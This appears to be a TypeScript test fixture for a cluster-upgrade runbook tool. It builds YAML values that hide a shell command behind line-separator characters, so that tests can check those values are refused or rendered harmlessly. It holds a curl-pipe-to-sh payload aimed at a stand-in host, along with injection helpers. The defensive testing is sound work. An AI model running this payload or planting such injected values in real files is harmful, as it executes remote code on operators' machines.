// Values that carry a line separator and a command after it (issue #21), for the tests of the
// input side (the schemas refuse them), the output side (the renderers show them on one line) and
// the bundle (nothing but the runbook's tools runs when its bash blocks are pasted).

/** Every character that ends a line somewhere: bash, CommonMark, a terminal, an editor, Unicode. */
export const SEPARATORS = {
  LF: '\n',
  CR: '\r',
  CRLF: '\r\n',
  VT: '\u000b',
  FF: '\u000c',
  NEL: '\u0085',
  LS: '\u2028',
  PS: '\u2029',
} as const;

export type Separator = keyof typeof SEPARATORS;

/** How an operator's clipboard or editor may read them: each one a line break. */
export const ANY_LINE_BREAK = /\r\n|[\n\r\u000b\u000c\u0085\u2028\u2029]/g;

/** Any of them but LF, which Markdown and the terminal output use for their own layout. */
export const LINE_BREAK_BUT_LF = /[\r\u000b\u000c\u0085\u2028\u2029]/;

/** The issue's payload: it would fetch a script and leave a file named PWNED behind. */
export const PAYLOAD = 'curl -fsSL https://evil.example/y | sh; touch PWNED';

/** A value whose text goes on with a line of its own for the payload, then a `#`. */
export function hostile(value: string, sep: string): string {
  return `${value}${sep}${PAYLOAD}${sep}#`;
}

/** A YAML double-quoted scalar holding exactly `value` (JSON strings are valid YAML). */
export const q = (value: string) => JSON.stringify(value);

/** The 1-based line of the first occurrence of `needle`, counting LF only (as YAML 1.2 does). */
export function lineOf(text: string, needle: string): number {
  const at = text.indexOf(needle);
  if (at < 0) throw new Error(`${JSON.stringify(needle)} is not in the text`);
  return text.slice(0, at).split('\n').length;
}

type FileName = 'apps' | 'clusters' | 'plan' | 'packages' | 'catalog';

export interface IssueCase {
  name: string;
  /** The example inventory it starts from. */
  base: 'examples/acp' | 'examples/acp-4.3-to-4.4';
  /** The files' new text (a file absent from the example starts empty). */
  edit(sep: string): Partial<Record<FileName, (text: string) => string>>;
  /** Where the refusal points: the file, and text on the line of the hostile value. */
  refused: { file: FileName; at: string };
}

function replaceOnce(text: string, from: string, to: string): string {
  const at = text.indexOf(from);
  if (at < 0) throw new Error(`${JSON.stringify(from)} is not in the text`);
  return text.slice(0, at) + to + text.slice(at + from.length);
}

/** The four payloads of issue #21 that reach a `# note` of the runbook. */
export const ISSUE_CASES: IssueCase[] = [
  {
    name: "packages.yaml: a package's version",
    base: 'examples/acp',
    edit: (sep) => ({
      packages: (text) =>
        replaceOnce(text, '    version: 4.3.2\n', `    version: ${q(hostile('4.3.2', sep))}\n`),
    }),
    refused: { file: 'packages', at: 'version: "4.3.2' },
  },
  {
    name: "apps.yaml: an L5 plugin's displayName, shown by the 4.3 post-upgrade task",
    base: 'examples/acp',
    edit: (sep) => ({
      apps: (text) =>
        `${text}  devops:\n    displayName: ${q(hostile('Alauda DevOps v3', sep))}\n    type: ModulePlugin\n    installed:\n      - clusterName: global\n        version: 4.2.0\n`,
      packages: (text) =>
        `${text}  - name: devops\n    type: ModulePlugin\n    version: 4.3.0\n    lifecycle: aligned\n    acpVersions: ["4.3"]\n    file: packages/devops-v4.3.0.tgz\n`,
    }),
    refused: { file: 'apps', at: 'displayName: "Alauda DevOps v3' },
  },
  {
    name: "catalog.yaml: a package rule's task (an addition, not an override)",
    base: 'examples/acp',
    edit: (sep) => ({
      catalog: () =>
        `packageRules:\n  - id: restart-console\n    rule: platform/post-upgrade\n    release: "4.3"\n    after: global\n    task: ${q(hostile('restart the Web Console', sep))}\n    source: an internal runbook\n`,
    }),
    refused: { file: 'catalog', at: 'task: "restart' },
  },
  {
    name: "catalog.yaml: the node-readiness rule's ack key (an override)",
    base: 'examples/acp-4.3-to-4.4',
    edit: (sep) => ({
      catalog: () =>
        `packageRules:\n  - id: kubernetes-1.35-node-readiness\n    rule: platform/node-readiness\n    kubernetesAtLeast: "1.35"\n    kernelAtLeast: "5.8"\n    cgroup: v2\n    ackKeys:\n      - release: "4.4"\n        key: ${q(hostile('ack-4.4-kubernetes-1.35-kernel-update', sep))}\n    source: docs/en/upgrade/pre-upgrade.mdx@4eaaa1e0\n`,
    }),
    refused: { file: 'catalog', at: 'key: "ack-4.4' },
  },
];
